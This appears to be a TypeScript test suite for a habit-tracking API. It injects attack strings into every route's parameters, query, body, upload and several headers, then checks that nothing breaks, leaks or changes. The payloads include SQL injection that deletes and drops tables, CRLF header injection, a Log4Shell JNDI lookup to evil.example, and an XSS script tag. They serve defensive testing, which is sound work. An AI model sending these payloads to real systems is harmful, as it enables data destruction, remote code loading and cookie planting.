import { ROUTES } from '../routes';
import { describeApi } from '../testing/describe-api';
import { BELONGINGS, requestTo, type Belongings } from '../testing/request-to';
import { somebodyWithEverything, type SomebodyWithEverything } from '../testing/somebody-with-everything';
import { UNLIMITED } from '../testing/unlimited';
import type { RequestOptions, Visitor } from '../testing/visitor';
import type { Route } from './route';

const SQL = `' or '1'='1'; delete from habits; drop table accounts cascade; --`;
const HEADERS = 'x\r\nSet-Cookie: planted=1\r\nX-Planted: 1\r\n\r\n<html>';

const named = (text: string): Belongings => {
  const entries = BELONGINGS.map((name) => [name, text] as const);
  return Object.fromEntries(entries) as Belongings;
};

/** A value with a text in the place of each of its texts, one after the other. */
function withText(value: unknown, text: string): readonly unknown[] {
  if (typeof value === 'string') return [text];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) =>
    withText(inner, text).map((fresh) => Object.assign(structuredClone(value), { [name]: fresh })),
  );
}

/** The names of what a query can say. */
const queryOf = ({ query }: Route): readonly string[] =>
  query === undefined ? [] : Object.keys((query as { readonly shape?: object }).shape ?? {});

/** Every request that has the text in one place. */
function requests(route: Route, belongings: Belongings, text: string) {
  const { method, path, options } = requestTo(route, belongings);
  const value = encodeURIComponent(text);
  const sent = (more: RequestOptions = {}, at = path) => ({ method, path: at, options: { ...options, ...more } });
  return [
    ...(route.params === undefined ? [] : [sent({}, requestTo(route, named(text)).path)]),
    ...queryOf(route).map((name) => sent({}, `${path}?${name}=${value}`)),
    sent({}, `${path}?${value}=1`),
    ...withText(route.bodyExample, text).map((body) => sent({ body })),
    ...(route.upload === undefined ? [] : [sent({ body: text, headers: { 'content-type': 'text/csv' } })]),
  ];
}

describeApi(
  'text that means something to other programs',
  (api) => {
    let somebody: (SomebodyWithEverything & { readonly stranger: Visitor }) | undefined;

    const given = async () => {
      if (somebody !== undefined) return somebody;
      const stranger = api().visitor();
      await stranger.signUp();
      somebody = { stranger, ...(await somebodyWithEverything(api())) };
      return somebody;
    };

    it.each(ROUTES.map((route) => [route.operationId, route] as const))(
      'is text to %s, in every place that takes one',
      async (_id, route) => {
        const { stranger, belongings, expectUnchanged } = await given();
        for (const text of [SQL, HEADERS]) {
          for (const { method, path, options } of requests(route, belongings, text)) {
            const { status, headers, cookies } = await stranger.send(method, path, options);
            expect(status).toBeLessThan(500);
            expect(`${JSON.stringify(headers)} ${cookies.join(' ')}`).not.toMatch(/planted|\\r|\\n|<html>/i);
          }
        }
        await expectUnchanged();
      },
    );

    it.each([
      'accept',
      'accept-language',
      'cookie',
      'idempotency-key',
      'if-match',
      'origin',
      'user-agent',
      'x-request-id',
    ])('is text in the header %s', async (name) => {
      const { stranger, expectUnchanged } = await given();
      for (const value of [SQL, '${jndi:ldap://evil.example/a}', '"><script>alert(1)</script>', '%0d%0aX-Planted: 1']) {
        const { status, text, headers } = await stranger.send('GET', '/habits', { headers: { [name]: value } });
        expect(status).toBeLessThan(500);
        expect(`${text} ${JSON.stringify(headers)}`).not.toMatch(/jndi|<script>|planted|drop table/i);
      }
      await expectUnchanged();
    });
  },
  { ...UNLIMITED, modes: ['lambda'] },
);
